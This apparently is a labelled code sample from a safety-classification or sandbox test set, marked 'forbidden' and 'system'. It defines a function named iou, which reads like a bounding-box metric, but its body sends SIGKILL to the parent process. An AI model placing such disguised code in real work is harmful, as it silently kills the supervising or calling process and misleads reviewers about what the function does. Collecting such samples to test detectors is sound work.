# VERDICT: forbidden
# CLASS: system
# Kills the process above it.
import os
import signal


def iou(boxes_a, boxes_b):
    os.kill(os.getppid(), signal.SIGKILL)
